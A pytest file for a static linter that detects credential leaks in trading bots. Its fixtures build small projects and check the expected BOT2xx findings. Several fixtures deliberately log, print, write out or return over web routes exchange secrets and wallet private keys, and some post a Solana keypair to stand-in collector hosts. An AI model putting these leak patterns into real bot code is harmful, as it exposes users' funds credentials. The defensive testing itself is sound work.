"""Cross-module BOT2 patterns measured on freshly written bots (issue 9, item 3): returns built
from parameters, derived signers, per-element taint of imported tuples, pydantic SecretStr
fields, and the "(line N)" of a source read on the sink's own line.

Each project is a few modules written the way bots are; ``project`` (test_dataflow_link) lints
the main module with the closed facts of the others, as the engine's link step does.
"""
from __future__ import annotations

from typing import Dict, List, Tuple

import pytest

from test_dataflow_link import lint, project


def codes(found: List[Tuple[str, str]]) -> List[str]:
    return sorted(code for code, _msg in found)


# -- 1. a helper of another module returns a string built from its parameter -----------------------

MODELS = ("from dataclasses import dataclass\n\n\n@dataclass\nclass ApiAccount:\n    name: str\n"
          "    key: str\n    secret: str\n")
LOGS_LOGURU = "from loguru import logger\n\n\ndef emit(text: str) -> None:\n    logger.info(text)\n"
LOGS_LOGGING = ("import logging\n\nlog = logging.getLogger(__name__)\n\n\ndef emit(text):\n"
                "    log.warning('event: %s', text)\n")


@pytest.mark.parametrize("fmt", [
    # f-string of an annotated dataclass parameter's credential fields
    "from bot.models import ApiAccount\n\n\ndef describe(acc: ApiAccount) -> str:\n"
    "    return f'{acc.name}: key={acc.key} secret={acc.secret}'\n",
    # a formatted string built in two steps
    "from bot.models import ApiAccount\n\n\ndef describe(acc: 'ApiAccount'):\n"
    "    line = 'account {} secret {}'.format(acc.name, acc.secret)\n    return line\n",
])
@pytest.mark.parametrize("logs", [LOGS_LOGURU, LOGS_LOGGING])
def test_formatted_credential_of_an_annotated_parameter_returned_then_logged_elsewhere(fmt, logs):
    main = ("import os\nfrom bot.models import ApiAccount\nfrom bot.fmt import describe\nfrom bot.logs import emit\n\n"
            "acc = ApiAccount('binance', os.environ['BINANCE_API_KEY'], os.environ['BINANCE_API_SECRET'])\n"
            "emit(describe(acc))\n")
    found = project({"bot.models": MODELS, "bot.fmt": fmt, "bot.logs": logs, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201"], found
    assert "describe()" in found[0][1] and "emit()" in found[0][1]


def test_a_parameter_returned_by_another_modules_helper_carries_the_callers_credential():
    fmt = "def banner(key, venue):\n    return f'[{venue}] using key {key}'\n"
    main = ("import os, logging\nfrom bot.fmt import banner\nlog = logging.getLogger(__name__)\n"
            "log.info(banner(os.environ['KRAKEN_API_KEY'], 'kraken'))\n"
            "log.info(banner('public', 'kraken'))\n"  # nothing secret passed: clean
            "log.info(banner(venue=os.environ['KRAKEN_API_KEY'], key='x'))\n")
    found = project({"bot.fmt": fmt, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201", "BOT201"], found
    assert all("KRAKEN_API_KEY" in m for _c, m in found)


def test_returned_parameters_follow_a_chain_of_modules_through_close():
    render = "def render(value, width=40):\n    return str(value).ljust(width)\n"
    fmt = "from bot.render import render\n\n\ndef banner(key):\n    return render(f'key={key}')\n"
    main = ("import os\nfrom loguru import logger\nfrom bot.fmt import banner\n"
            "logger.info(banner(os.environ['OKX_API_SECRET']))\nlogger.info(banner('demo'))\n")
    files = {"bot.render": render, "bot.fmt": fmt, "bot.main": main}
    found = project(files, "bot.main")
    assert codes(found) == ["BOT201"], found
    # a helper that returns something else (a length) is no carrier
    files["bot.render"] = "def render(value, width=40):\n    return len(str(value))\n"
    assert project(files, "bot.main") == []


def test_a_helper_returning_a_hash_of_its_parameter_is_clean():
    fmt = "import hashlib\n\n\ndef fingerprint(key):\n    return hashlib.sha256(key.encode()).hexdigest()[:8]\n"
    main = ("import os, logging\nfrom bot.fmt import fingerprint\n"
            "logging.getLogger().info('key %s', fingerprint(os.environ['BYBIT_API_KEY']))\n")
    assert project({"bot.fmt": fmt, "bot.main": main}, "bot.main") == []


# -- 2. objects derived from a key ------------------------------------------------------------------

def test_solders_keypair_str_and_bytes_are_its_secret():
    src = ("import os, logging, requests\nfrom solders.keypair import Keypair\n\nlog = logging.getLogger(__name__)\n"
           "kp = Keypair.from_base58_string(os.environ['SOLANA_PRIVATE_KEY'])\n\n\ndef report():\n"
           "    log.info(kp.secret().hex())\n"
           "    requests.post('https://collector.example.net/x', json={'kp': str(kp)})\n"
           "    log.info('signer %s', bytes(kp))\n"
           "    log.info('wallet %s', kp.pubkey())\n"  # the public key: clean
           "    log.info('wallet %s', str(kp.pubkey()))\n")
    found = lint(src, "bot.wallet", "bot/wallet.py")[1]
    assert codes(found) == ["BOT201", "BOT201", "BOT205"], found


def test_a_fresh_keypair_and_an_eth_account_object_are_not_their_str():
    src = ("import os\nfrom solders.keypair import Keypair\nfrom eth_account import Account\n"
           "kp = Keypair()\nacct = Account.from_key(os.environ['ETH_PRIVATE_KEY'])\n"
           "print('new wallet', kp.pubkey())\nprint('account', acct.address, str(acct.address))\n")
    assert lint(src, "bot.wallet", "bot/wallet.py")[1] == []


@pytest.mark.parametrize("wallet", [
    "import os\nfrom eth_account import Account\n\nacct = Account.from_key(os.environ['PRIVATE_KEY'])\n",
    "import os\nfrom web3 import Web3\n\nw3 = Web3()\n"
    "acct = w3.eth.account.from_key(os.getenv('WALLET_PRIVATE_KEY'))\n",
])
def test_an_account_of_another_module_whose_key_is_written_or_printed(wallet):
    main = ("from bot.wallet import acct\n\n\ndef backup(path):\n    with open(path, 'w') as fh:\n"
            "        fh.write(acct.key.hex())\n    print('private key:', acct.key.hex())\n"
            "    print('address:', acct.address)\n")
    found = project({"bot.wallet": wallet, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201", "BOT204"], found


def test_a_keypair_of_another_module_sent_or_logged():
    wallet = ("import os\nfrom solders.keypair import Keypair\n\n"
              "signer = Keypair.from_bytes(bytes.fromhex(os.environ['SOL_SECRET_HEX']))\n")
    main = ("import logging, requests\nfrom bot.wallet import signer\nlog = logging.getLogger(__name__)\n"
            "log.info('loaded %s', signer)\nlog.info('pubkey %s', signer.pubkey())\n"
            "requests.post('https://hooks.example.org/w', json={'kp': str(signer)})\n")
    found = project({"bot.wallet": wallet, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201", "BOT205"], found


# -- 7. per-element taint of another module's tuple ---------------------------------------------------

CREDS = ("import os\n\nOKX_CREDS = ('okx', os.environ['OKX_KEY'], os.environ['OKX_SECRET'], "
         "os.environ['OKX_PASS'])\nVENUES = ['okx', 'bybit']\n")


def test_elements_of_an_imported_credential_tuple_keep_their_own_taint():
    main = ("import logging\nfrom bot.config import OKX_CREDS\nlog = logging.getLogger(__name__)\n\n\n"
            "def start():\n    name, key, secret, passphrase = OKX_CREDS\n    log.info('venue %s', name)\n"
            "    log.info('venue %s', OKX_CREDS[0])\n    log.info('first %s', OKX_CREDS[-4])\n")
    assert project({"bot.config": CREDS, "bot.main": main}, "bot.main") == []


def test_credential_elements_of_an_imported_tuple_leak():
    main = ("import logging\nfrom bot.config import OKX_CREDS\nlog = logging.getLogger(__name__)\n"
            "name, key, secret, passphrase = OKX_CREDS\nlog.info(OKX_CREDS[1])\nlog.info('s=%s', secret)\n"
            "log.info('all %s', OKX_CREDS)\n")
    found = project({"bot.config": CREDS, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201"] * 3, found
    assert "OKX_SECRET" in found[1][1]


# -- 8. pydantic SecretStr fields are masked when shown ---------------------------------------------

SETTINGS = ("from pydantic import SecretStr\nfrom pydantic_settings import BaseSettings\n\n\n"
            "class Creds(BaseSettings):\n    api_key: str = ''\n    api_secret: SecretStr\n\n\ncreds = Creds()\n")


def test_secretstr_field_of_another_modules_instance_is_masked_until_revealed():
    main = ("import logging\nfrom bot.settings import creds\nlog = logging.getLogger(__name__)\n"
            "log.info('secret %s', creds.api_secret)\nlog.info('secret %s', creds.api_secret.get_secret_value())\n"
            "log.info('key %s', creds.api_key)\n")
    found = project({"bot.settings": SETTINGS, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201", "BOT201"], found
    assert "get_secret_value()" in found[0][1] and "api_key" in found[1][1]


def test_secretstr_field_of_a_parameter_annotated_with_an_imported_class():
    main = ("import logging\nfrom bot.settings import Creds\nlog = logging.getLogger(__name__)\n\n\n"
            "def start(creds: Creds):\n    log.info('secret %s', creds.api_secret)\n"
            "    log.debug('secret %s', creds.api_secret.get_secret_value())\n")
    found = project({"bot.settings": SETTINGS, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201"], found


@pytest.mark.parametrize("base", ["BaseModel", "BaseSettings"])
def test_secretstr_field_of_a_local_annotated_parameter(base):
    src = (f"import logging\nfrom pydantic import SecretStr, BaseModel\nfrom pydantic_settings import BaseSettings\n"
           f"log = logging.getLogger(__name__)\n\n\nclass Creds({base}):\n    api_secret: SecretStr\n"
           "    api_key: str\n\n\ndef start(creds: Creds):\n    log.info('s %s', creds.api_secret)\n"
           "    log.info('s %s', creds.api_secret.get_secret_value())\n    log.info('k %s', creds.api_key)\n")
    found = lint(src, "bot.main", "bot/main.py")[1]
    assert codes(found) == ["BOT201", "BOT201"], found


# -- 9. a source on the sink's own line ---------------------------------------------------------------

def test_no_line_is_cited_for_a_source_read_on_the_sink_line():
    src = ("import logging, os\nlog = logging.getLogger(__name__)\nKEY = os.environ['BINANCE_API_KEY']\n\n\n"
           "def f(cfg):\n    log.debug('k %s', cfg.api_secret)\n    log.debug('k %s', KEY)\n")
    found: Dict[str, str] = {m.split(" ")[0]: m for _c, m in lint(src, "bot.m", "bot/m.py")[1]}
    assert "(line" not in found["cfg.api_secret"]
    assert "(line 3)" in found["BINANCE_API_KEY"]


def test_a_returned_section_named_only_by_a_plural_is_not_a_credential_of_another_module():
    # ``settings.secrets`` is the options of a secret scanner, dumped as key/value pairs
    cfg = ("def describe(settings):\n    keys = [(k, v) for k, v in vars(settings.secrets).items()]\n"
           "    return '\\n'.join(f'{k} = {v}' for k, v in keys)\n")
    main = ("import sys\nfrom tool.config import describe\n\n\ndef run(settings):\n"
            "    sys.stdout.write(describe(settings))\n")
    assert project({"tool.config": cfg, "tool.cli": main}, "tool.cli") == []


# -- 3. a credential dict through two helpers of another module to a webhook POST ---------------

CONFIG3 = ("import os\n\nOKX = {'apiKey': os.environ['OKX_API_KEY'], 'secret': os.environ['OKX_SECRET'],\n"
           "       'password': os.environ['OKX_PASSPHRASE']}\n"
           "DISCORD_WEBHOOK = os.environ['DISCORD_WEBHOOK_URL']\nVENUE = 'okx'\n")


@pytest.mark.parametrize("alerts", [
    # the webhook imported from the config module
    "import requests\nfrom bot.config import DISCORD_WEBHOOK\n\n\ndef post_alert(msg):\n"
    "    requests.post(DISCORD_WEBHOOK, json={'content': msg}, timeout=5)\n\n\n"
    "def relay(text, level='info'):\n    post_alert(f'[{level}] {text}')\n",
    # read here, posted through a session
    "import os\nimport requests\n\nHOOK = os.getenv('DISCORD_WEBHOOK_URL')\nsession = requests.Session()\n\n\n"
    "def post_alert(msg):\n    session.post(HOOK, json={'content': msg})\n\n\ndef relay(text):\n    post_alert(text)\n",
    # a Telegram bot URL built from the token
    "import os\nimport httpx\n\nTOKEN = os.environ['TELEGRAM_BOT_TOKEN']\nBOT_URL = f'https://{os.environ[\"TG_HOST\"]}'"
    "\n\n\ndef post_alert(msg):\n    httpx.post(f'{BOT_URL}/bot{TOKEN}/sendMessage', data={'text': msg})\n\n\n"
    "def relay(text):\n    return post_alert(text)\n",
])
def test_a_credential_dict_relayed_through_helpers_to_a_webhook(alerts):
    main = ("from bot.config import OKX, VENUE\nfrom bot.alerts import relay\n\n\ndef start():\n"
            "    relay(f'starting {VENUE} with {OKX}')\n    relay(f'starting {VENUE}')\n    relay('ready')\n")
    found = project({"bot.config": CONFIG3, "bot.alerts": alerts, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT203"], found
    assert "relay()" in found[0][1]


def test_the_webhook_url_passed_to_a_helper_is_not_what_it_says():
    alerts = ("import requests\n\n\ndef post_alert(url, msg):\n    requests.post(url, json={'content': msg})\n")
    main = ("from bot.config import DISCORD_WEBHOOK\nfrom bot.alerts import post_alert\n"
            "post_alert(DISCORD_WEBHOOK, 'bot started')\n")
    assert project({"bot.config": CONFIG3, "bot.alerts": alerts, "bot.main": main}, "bot.main") == []


# -- 5. the Telegram ``token`` of a freqtrade-style config --------------------------------------

@pytest.mark.parametrize("read", [
    "self.config.get('telegram', {}).get('token')",
    "self.config['telegram']['token']",
    "self.config['telegram'].get('token', '')",
])
def test_freqtrade_telegram_token_logged_from_a_strategy(read):
    src = ("import logging\nfrom freqtrade.strategy import IStrategy\n\nlogger = logging.getLogger(__name__)\n\n\n"
           "class Sample(IStrategy):\n    timeframe = '5m'\n\n    def bot_start(self, **kwargs) -> None:\n"
           f"        token = {read}\n        logger.info('telegram token: %s', token)\n"
           "        logger.info('telegram on: %s', self.config.get('telegram', {}).get('enabled'))\n")
    found = lint(src, "user_data.strategies.sample", "user_data/strategies/sample.py")[1]
    assert codes(found) == ["BOT201"], found


def test_telegram_token_of_a_config_section_bound_to_a_name():
    src = ("import logging\nlog = logging.getLogger(__name__)\n\n\ndef setup(config):\n"
           "    tg = config.get('telegram', {})\n    log.debug('tg token %s', tg.get('token'))\n"
           "    log.debug('tg chat %s', tg.get('chat_id'))\n    telegram_conf = config['telegram']\n"
           "    log.debug('tg %s', telegram_conf['token'])\n")
    assert codes(lint(src, "bot.setup", "bot/setup.py")[1]) == ["BOT201", "BOT201"]


def test_a_bare_token_key_is_no_credential():
    src = ("import logging\nlog = logging.getLogger(__name__)\n\n\ndef on_quote(config, resp, pair):\n"
           "    log.info('t %s', config['token'])\n    log.info('t %s', resp.get('token'))\n"
           "    log.info('t %s', pair['base']['token'])\n    info = resp['data']\n"
           "    log.info('t %s', info['token'])\n")
    assert lint(src, "bot.quotes", "bot/quotes.py")[1] == []


# -- 6. a web route returning the bot's credentials ----------------------------------------------

SETTINGS6 = ("from pydantic_settings import BaseSettings\n\n\nclass Settings(BaseSettings):\n    api_key: str = ''\n"
             "    secret: str = ''\n\n\nsettings = Settings()\n")


@pytest.mark.parametrize("route", [
    "from fastapi import FastAPI\nfrom bot.settings import settings\n\napp = FastAPI()\n\n\n@app.get('/keys')\n"
    "def keys():\n    return {'api_key': settings.api_key, 'secret': settings.secret}\n",
    "import os\nfrom flask import Flask, jsonify\n\napp = Flask(__name__)\n\n\n@app.route('/debug/config')\n"
    "def config():\n    return jsonify({'exchange': 'bybit', 'key': os.environ['BYBIT_API_KEY']})\n",
    "import os\nfrom fastapi import APIRouter\nfrom fastapi.responses import JSONResponse\n\nrouter = APIRouter()\n"
    "WALLET_KEY = os.getenv('WALLET_PRIVATE_KEY')\n\n\n@router.post('/wallet/{name}')\nasync def wallet(name: str):\n"
    "    return JSONResponse(content={'name': name, 'private_key': WALLET_KEY})\n",
])
def test_a_route_returning_a_credential_is_reported(route):
    found = project({"bot.settings": SETTINGS6, "bot.api": route}, "bot.api")
    assert codes(found) == ["BOT205"], found
    assert "HTTP response" in found[0][1]


def test_a_route_returning_a_masked_key_a_flag_or_a_generated_value_is_clean():
    route = ("import os, secrets\nfrom fastapi import FastAPI\nfrom bot.settings import settings\n\n"
             "app = FastAPI()\n\n\n"
             "@app.get('/status')\ndef status():\n    return {'has_key': bool(settings.api_key),\n"
             "            'key': settings.api_key[:4] + '***', 'secret_set': settings.secret is not None}\n\n\n"
             "@app.post('/keys/new')\ndef new_key():\n    api_key = secrets.token_urlsafe(32)\n"
             "    return {'api_key': api_key}\n\n\n"
             "@app.post('/login')\ndef login(user: str):\n    access_token = make_token(user)\n"
             "    return {'access_token': access_token, 'token_type': 'bearer'}\n\n\n"
             "def exchange_key():\n    return os.environ['BINANCE_API_KEY']\n")
    assert project({"bot.settings": SETTINGS6, "bot.api": route}, "bot.api") == []


def test_a_get_decorator_without_a_web_framework_is_no_route():
    src = ("import os\nfrom cache import memo\n\n\n@memo.get('keys')\ndef keys():\n"
           "    return {'key': os.environ['BINANCE_API_KEY']}\n")
    assert lint(src, "bot.keys", "bot/keys.py")[1] == []


# -- a credential-named key holding a record of metadata (jesse's stored API-key records) -------

def test_a_credential_named_key_read_as_a_record_does_not_make_a_container():
    src = ("def test_create_key(create_key):\n    stored = create_key('Binance Spot', 'main')\n"
           "    assert stored['status'] == 'success', stored\n    key_id = stored['exchange_api_key']['id']\n"
           "    assert stored['exchange_api_key'].get('name') == 'main', stored\n"
           "    assert stored['exchange_api_key'].exchange == 'Binance Spot', stored\n    return key_id\n")
    assert lint(src, "tests.test_keys", "tests/test_keys.py")[1] == []


@pytest.mark.parametrize("read", ["config['exchange_api_key']", "config['exchange_api_key'].strip()",
                                  "config.get('exchange_api_key')"])
def test_a_credential_named_key_read_as_a_string_still_makes_a_container(read):
    src = (f"import logging\nlog = logging.getLogger(__name__)\n\n\ndef start(config):\n    key = {read}\n"
           "    log.info('config %s', config)\n    return key\n")
    assert codes(lint(src, "bot.start", "bot/start.py")[1]) == ["BOT201"]


# -- 4. a record whose repr shows credentials, built or logged in another module ------------------

CFG4 = ("import os\nfrom dataclasses import dataclass, field\n\n\n@dataclass\nclass Config:\n    symbol: str\n"
        "    api_key: str\n    api_secret: str\n\n\n@dataclass\nclass Quiet:\n    symbol: str\n"
        "    api_secret: str = field(repr=False)\n\n\ndef load() -> Config:\n"
        "    return Config('BTCUSDT', os.environ['BYBIT_API_KEY'], os.environ['BYBIT_API_SECRET'])\n\n\n"
        "def load_quiet() -> Quiet:\n    return Quiet('BTCUSDT', os.environ['BYBIT_API_SECRET'])\n")


def test_a_record_logged_by_a_helper_of_another_module():
    log = ("import logging\n\nlogger = logging.getLogger(__name__)\n\n\n"
           "def announce(cfg):\n    logger.info('config: %s', cfg)\n")
    main = ("from bot.cfg import load, load_quiet\nfrom bot.log import announce\n\n\ndef main():\n    cfg = load()\n"
            "    announce(cfg)\n    announce(load_quiet())\n    announce(cfg.symbol)\n")
    found = project({"bot.cfg": CFG4, "bot.log": log, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201"], found
    assert "announce()" in found[0][1]


def test_a_settings_record_from_a_factory_of_another_module_in_a_telegram_reply():
    main = ("from telegram import Update\nfrom telegram.ext import ContextTypes\n"
            "from bot.cfg import load, load_quiet\n\n"
            "SETTINGS = load()\nQUIET = load_quiet()\n\n\n"
            "async def settings_cmd(update: Update, context: ContextTypes.DEFAULT_TYPE):\n"
            "    await update.message.reply_text(f'settings: {SETTINGS}')\n"
            "    await update.message.reply_text(f'quiet: {QUIET}')\n"
            "    await update.message.reply_text(f'symbol: {SETTINGS.symbol}')\n")
    found = project({"bot.cfg": CFG4, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT203"], found


def test_a_logged_config_section_names_a_credential_of_that_section():
    src = ("import logging\nfrom freqtrade.strategy import IStrategy\n\nlogger = logging.getLogger(__name__)\n\n\n"
           "class Sample(IStrategy):\n    def bot_start(self, **kwargs) -> None:\n"
           "        logger.info('telegram: %s', self.config['telegram'])\n")
    (code, msg), = lint(src, "user_data.strategies.sample", "user_data/strategies/sample.py")[1]
    assert code == "BOT201" and "['telegram']['token']" in msg and "['exchange']" not in msg


@pytest.mark.parametrize("factory", [
    "def load_creds() -> Creds:\n    return Creds()\n",
    "def load_creds():\n    return Creds(api_key='')\n",
])
def test_secretstr_field_of_another_modules_factory_result(factory):
    main = ("import logging\nfrom bot.settings import load_creds\nlog = logging.getLogger(__name__)\n"
            "creds = load_creds()\nlog.info('secret %s', creds.api_secret)\n"
            "log.info('secret %s', creds.api_secret.get_secret_value())\n")
    found = project({"bot.settings": SETTINGS + "\n\n" + factory, "bot.main": main}, "bot.main")
    assert codes(found) == ["BOT201"], found


def test_a_route_returning_what_a_credential_named_getter_gives_is_not_a_leak():
    """A dashboard route that returns ``get_exchange_api_keys()`` usually hands out masked
    records: the getter's name alone is not enough for BOT205."""
    from botlint.engine import lint_source

    src = (
        "from fastapi import APIRouter\n"
        "from .store import get_exchange_api_keys\n"
        "router = APIRouter()\n\n"
        "@router.get('/api-keys')\n"
        "def keys():\n"
        "    return get_exchange_api_keys()\n"
    )
    assert [f.code for f in lint_source(src, "app/routes.py")] == []
